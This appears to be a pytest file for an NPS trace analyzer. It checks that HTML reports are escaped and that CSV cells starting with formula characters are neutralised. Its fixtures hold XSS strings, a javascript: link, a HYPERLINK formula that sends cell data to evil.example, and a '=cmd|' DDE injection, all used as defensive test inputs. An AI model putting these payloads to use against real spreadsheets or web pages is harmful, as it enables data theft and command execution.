"""Everything that leaves the tool is safe for untrusted input: HTML escaped, CSV formulas neutralised."""

from __future__ import annotations

import csv
import json
from datetime import datetime, timezone
from pathlib import Path

import pytest

from nps_trace_analyzer.core.model import Event, Evidence, Incident, InputFile
from nps_trace_analyzer.report.csv_safe import neutralise
from nps_trace_analyzer.report.html import render_html
from nps_trace_analyzer.report.result import AnalysisResult, to_document
from nps_trace_analyzer.report.tables import EventsCsv, write_incidents_csv

T0 = datetime(2026, 5, 4, 9, 30, 1, 123456, tzinfo=timezone.utc)
EVIL_USER = '<script>alert("x")</script>@contoso.com'
EVIL_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click") <img src=x onerror=alert(1)> & "quotes"'


def _incident(**overrides: object) -> Incident:
    fields = dict(
        id="INC-0001",
        kind="sign-in",
        cid="32e83cbf-484d-49aa-9adb-71528f5eb94d",
        user=EVIL_USER,
        server="NPS01",
        first_seen=T0,
        last_seen=T0,
        count=1,
        codes=["ESTS_TOKEN_ERROR"],
        primary_code="ESTS_TOKEN_ERROR",
        category="certificate-token",
        severity="error",
        benign=False,
        in_catalog=True,
        title="Token error",
        summary=f"Sign-in of {EVIL_USER} failed",
        steps=["@SUM(A1:A2) step", "+1 step"],
        doc_links=["javascript:alert(1)", "https://learn.microsoft.com/x"],
        evidence=[Evidence("f.evtx", "AuthZOptCh", 1, 7, T0, EVIL_TEXT, "ESTS_TOKEN_ERROR")],
        attrs={"aadsts": "-AADSTS7000112"},
    )
    fields.update(overrides)
    return Incident(**fields)  # type: ignore[arg-type]


def _result() -> AnalysisResult:
    inp = InputFile('evil"<name>.evtx', "/tmp/x", 10, "ab" * 32, "evtx", analysed=False, reason="<b>bad</b>")
    return AnalysisResult("bundle<1>", [inp], [_incident()], "test", generated_at=T0)


#: Characters the CSV fuzz tests draw cells from: plain ones first (``alphabet[:3]`` makes plain cells), then every
#: character a CSV writer must treat specially (delimiter, quote, line ends, formula starts, bidi, NUL) and non-ASCII.
CSV_FUZZ_ALPHABET = ["a", "Z", " ", ",", '"', "'", "\r", "\n", "\t", "=", "-", "+", "@", ";", "é", "😀", "\u202e"]
CSV_FUZZ_ALPHABET += ["\\", "\x00", ""]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("a=b", "a=b"),
        (None, ""),
        ("a\x00b", "a\u2400b"),
    ],
)
def test_neutralise(cell: object, expected: str) -> None:
    assert neutralise(cell) == expected


def test_html_escapes_everything_from_the_bundle() -> None:
    html = render_html(to_document(_result()))
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;" in html
    assert 'href="javascript:' not in html  # non-http links are shown as text, never as links
    assert 'href="https://learn.microsoft.com/x"' in html
    assert "&lt;b&gt;bad&lt;/b&gt;" in html
    assert "http://" not in html.split("<body>")[0]  # nothing fetched: no external resources in the head
    assert "<script" not in html.lower()


def test_incidents_csv_is_bom_rfc4180_and_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "incidents.csv"
    result = _result()
    result.incidents = [_incident(user="=cmd|' /C calc'!A0")]
    write_incidents_csv(path, to_document(result)["incidents"])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0]["User"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["Details"] == "aadsts=-AADSTS7000112"
    assert rows[0]["Steps"].startswith("1. @SUM")  # not at cell start: left as is


def test_events_csv_neutralises_event_text(tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    event = Event(
        T0, "f.evtx", "AuthZOptCh", "Microsoft-AzureMfa-AuthZ", 1, 4, 9, "NPS01", ((None, EVIL_TEXT),), EVIL_TEXT
    )
    with EventsCsv(path) as out:
        out.add(event)
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0]["Text"].startswith("'=HYPERLINK")
    assert rows[0]["TimeCreated"] == "2026-05-04T09:30:01.123456Z"


def test_json_document_round_trips() -> None:
    doc = to_document(_result())
    again = json.loads(json.dumps(doc))
    assert again["incidents"][0]["user"] == EVIL_USER
    assert again["incidents"][0]["first_seen"] == "2026-05-04T09:30:01.123456Z"
    assert again["inputs"][0]["reason"] == "<b>bad</b>"
    assert "path" not in again["inputs"][0]  # temp paths never leave the tool


def test_formatted_rows_are_what_csv_writer_writes() -> None:
    """SafeCsvRows writes rows needing no quotes itself: byte for byte what SafeCsvWriter's csv.writer writes."""
    import io
    import random

    from nps_trace_analyzer.report.csv_safe import SafeCsvRows, _csv_writer, neutralise

    rng = random.Random(4)
    alphabet = CSV_FUZZ_ALPHABET
    rows = SafeCsvRows()
    reference = io.StringIO()
    writer = _csv_writer(reference)
    for _ in range(3000):
        row = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(6))) for _ in range(rng.randrange(0, 5))]
        row += [rng.choice([0, 17, None, 4.5])]
        rows.row(row)
        writer.writerow([neutralise(v) for v in row])
    assert rows.text() == reference.getvalue() and rows.count == 3000


def test_plain_rows_are_what_csv_writer_writes() -> None:
    """SafeCsvRows.plain_row (string cells, tested as one joined line): byte for byte csv.writer's output too."""
    import io
    import random

    from nps_trace_analyzer.report.csv_safe import SafeCsvRows, _csv_writer, neutralise

    rng = random.Random(8)
    alphabet = CSV_FUZZ_ALPHABET
    rows = SafeCsvRows()
    reference = io.StringIO()
    writer = _csv_writer(reference)
    plain = 0
    for _ in range(5000):
        row = [
            "".join(rng.choice(alphabet[:3] if rng.random() < 0.5 else alphabet) for _ in range(rng.randrange(6)))
            for _ in range(rng.randrange(1, 11))
        ]
        before = len(rows.text())
        rows.plain_row(row)
        writer.writerow([neutralise(v) for v in row])
        plain += rows.text()[before:] == ",".join(row) + "\r\n"
    assert rows.text() == reference.getvalue() and rows.count == 5000
    assert plain > 500  # the joined-line path was taken


def test_event_rows_are_what_csv_writer_writes() -> None:
    """EventRows tests the cells events of one log share once per distinct set and joins the row itself: byte
    for byte csv.writer's output for every event, shared cells and texts of every kind included."""
    import io
    import random

    from nps_trace_analyzer.report.csv_safe import _csv_writer, neutralise
    from nps_trace_analyzer.report.tables import EventRows, event_row

    rng = random.Random(9)
    alphabet = CSV_FUZZ_ALPHABET

    def cell(plain_only: bool) -> str:
        return "".join(rng.choice(alphabet[:3] if plain_only else alphabet) for _ in range(rng.randrange(6)))

    heads = [
        (cell(i % 2 == 0), cell(True), cell(i % 3 != 0), rng.choice([4624, -1]), rng.choice([None, 0, 4]), cell(True))
        for i in range(12)
    ]
    rows = EventRows()
    reference = io.StringIO()
    writer = _csv_writer(reference)
    for n in range(6000):
        computer, channel, provider, event_id, level, source = rng.choice(heads)
        event = Event(
            time=datetime(2026, 3, 2, 6, 0, n % 60, n, tzinfo=timezone.utc),
            source_file=source,
            channel=channel,
            provider=provider,
            event_id=event_id,
            level=level,
            record_id=rng.choice([None, n, -n]),
            computer=computer,
            data=(),
            text=cell(rng.random() < 0.5) + rng.choice(["", ", ignoring request.", ',"q"', ",-1"]),
            source_kind="evtx",
        )
        rows.add(event)
        writer.writerow([neutralise(v) for v in event_row(event)])
    assert rows.text() == reference.getvalue() and rows.count == 6000


def test_writer_plain_rows_are_what_its_row_writes(tmp_path: Path) -> None:
    """SafeCsvWriter.plain_row (incidents.csv's fast path) writes the bytes SafeCsvWriter.row writes, for cells
    of every kind: formula starts, commas, quotes, line ends, NUL, bidi controls, non-ASCII."""
    import random

    from nps_trace_analyzer.report.csv_safe import SafeCsvWriter

    rng = random.Random(21)
    alphabet = CSV_FUZZ_ALPHABET
    rows = [
        [
            "".join(rng.choice(alphabet[:3] if rng.random() < 0.5 else alphabet) for _ in range(rng.randrange(8)))
            for _ in range(rng.randrange(1, 18))
        ]
        for _ in range(4000)
    ]
    with (
        SafeCsvWriter(tmp_path / "fast.csv", ["A", "B"]) as fast,
        SafeCsvWriter(tmp_path / "slow.csv", ["A", "B"]) as slow,
    ):
        for row in rows:
            fast.plain_row(row)
            slow.row(row)
    assert (tmp_path / "fast.csv").read_bytes() == (tmp_path / "slow.csv").read_bytes()


def test_incidents_csv_is_what_the_row_by_row_writer_wrote(tmp_path: Path) -> None:
    """write_incidents_csv through plain_row gives what every cell through neutralise and csv.writer gave."""
    from nps_trace_analyzer.report.csv_safe import SafeCsvWriter
    from nps_trace_analyzer.report.tables import INCIDENT_COLUMNS, write_incidents_csv

    doc = to_document(_result())
    incidents = [*doc["incidents"], {**doc["incidents"][0], "server": None, "count": 7, "summary": 'a,-b "q"'}]
    write_incidents_csv(tmp_path / "incidents.csv", incidents)
    with SafeCsvWriter(tmp_path / "reference.csv", INCIDENT_COLUMNS) as out:
        for inc in incidents:
            out.row(
                [
                    inc["id"],
                    inc["kind"],
                    inc["first_seen"],
                    inc["last_seen"],
                    inc["count"],
                    inc["server"] or "",
                    inc["user"] or "",
                    inc["cid"] or "",
                    inc["primary_code"],
                    " ".join(inc["codes"]),
                    inc["category"],
                    inc["severity"],
                    "yes" if inc["benign"] else "no",
                    "yes" if inc["in_catalog"] else "no",
                    inc["summary"],
                    " | ".join(f"{n}. {s}" for n, s in enumerate(inc["steps"], 1)),
                    "; ".join(f"{k}={v}" for k, v in inc["details"].items()),
                ]
            )
    assert (tmp_path / "incidents.csv").read_bytes() == (tmp_path / "reference.csv").read_bytes()
